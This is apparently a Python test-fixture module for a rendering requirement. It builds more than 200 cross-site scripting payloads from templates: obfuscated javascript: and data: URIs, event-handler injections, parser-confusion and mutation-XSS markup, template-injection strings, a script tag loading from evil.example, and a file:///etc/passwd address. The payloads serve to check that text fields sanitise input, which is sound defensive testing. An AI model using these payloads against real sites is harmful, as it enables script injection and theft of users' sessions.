"""Texts that try to run a script in a reader's browser, made from templates: more than 200, none of them
special.

Requirement R-C1: each goes through every text field; none may run. A fixed bug of this kind adds a row here.
"""

from __future__ import annotations

import html
from itertools import product

CALL = "alert(1)"

# Addresses that run, hidden in the ways that parsers have fallen for.
_ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"java&Tab;script:{CALL}",
    f"%6Aavascript:{CALL}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"feed:javascript:{CALL}",
    f"livescript:{CALL}",
    f"javascript://x%0A{CALL}",
    "file:///etc/passwd",
    "blob:http://x/1",
]

_IN_MARKDOWN = [
    "[go]({})",
    "[go](<{}>)",
    '[go]({} "title")',
    "![go]({})",
    "<{}>",
    "[go][r]\n\n[r]: {}",
    "[![in](x.png)]({})",
]

_IN_HTML = [
    '<a href="{}">go</a>',
    "<img src='{}'>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>go</button></form>',
    '<object data="{}"></object>',
]

_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle", "onanimationstart",
    "onpointerenter", "onbeforetoggle", "OnErRoR", "onerror\t", "onerror\n", "/onerror",
    "oncontentvisibilityautostatechange",
]  # fmt: skip
_BEARERS = [
    "<img src=x {}={}>",
    "<svg {}={}>",
    '<a href="/x" {}="{}">go</a>',
    "<details open {}={}>",
    "<video src=x {}={}></video>",
    "<td {}={}>cell</td>",
]

_SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    "<script src=//evil.example/x.js></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<style><style /><img src=x onerror={CALL}>",
    f"<template><script>{CALL}</script></template>",
    f'<xmp><p title="</xmp><svg/onload={CALL}>">',
    f"<title><img src=x onerror={CALL}></title>",
    f"<textarea><img src=x onerror={CALL}></textarea>",
    f"<select><style><img src=x onerror={CALL}></style></select>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f'<?xml-stylesheet href="javascript:{CALL}"?>',
    f"</p><script>{CALL}</script><p>",
    f'"><script>{CALL}</script>',
    f"'><img src=x onerror={CALL}>",
    f"` onmouseover={CALL} `",
    f'<base href="javascript:{CALL}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    f'<link rel=stylesheet href="javascript:{CALL}">',
    f'<embed src="javascript:{CALL}">',
    f'<div style="background:url(javascript:{CALL})">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    f"<style>@import 'javascript:{CALL}';</style>",
    f"<input autofocus onfocus={CALL}>",
    f"<body onload={CALL}>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f'<img src="x` `<script>{CALL}</script>"` `>',
    f'<img """><script>{CALL}</script>">',
    f"\ufeff<script>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f'<a href="/x" onclick={CALL} style=x:expression({CALL})>go</a>',
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    "{{7*7}}{% raw %}{0.__class__}%n",
]

_IN_MARKS = [
    "# {}", "> {}", "- {}", "| a |\n|---|\n| {} |", "**{}**", "```html\n{}\n```", "`{}`",
    ":::say {}\n{}\n:::", "![{}](attachment:" + "a" * 64 + ")", "[{}](/x)", '![x](/files/1 "{}")',
    "~~{}~~", "    {}", "x\n\n[{}]: /y", "<https://x.example/{}>", "[x](https://x.example/{})", "![x](/files/{})",
]  # fmt: skip

MARKDOWN: list[str] = [form.format(address) for form, address in product(_IN_MARKDOWN, _ADDRESSES)]
HTML: list[str] = (
    [
        form.format(html.escape(address, quote=True).replace("&amp;", "&"))
        for form, address in product(_IN_HTML, _ADDRESSES)
    ]
    + [form.format(handler, CALL) for form, handler in product(_BEARERS, _HANDLERS)]
    + _SCRIPTS
)
WRAPPED: list[str] = [
    form.replace("{}", text)
    for form, text in product(_IN_MARKS, [_SCRIPTS[0], *_SCRIPTS[22:25], f"<img src=x onerror={CALL}>"])
]

ALL: list[str] = list(dict.fromkeys(MARKDOWN + HTML + WRAPPED))
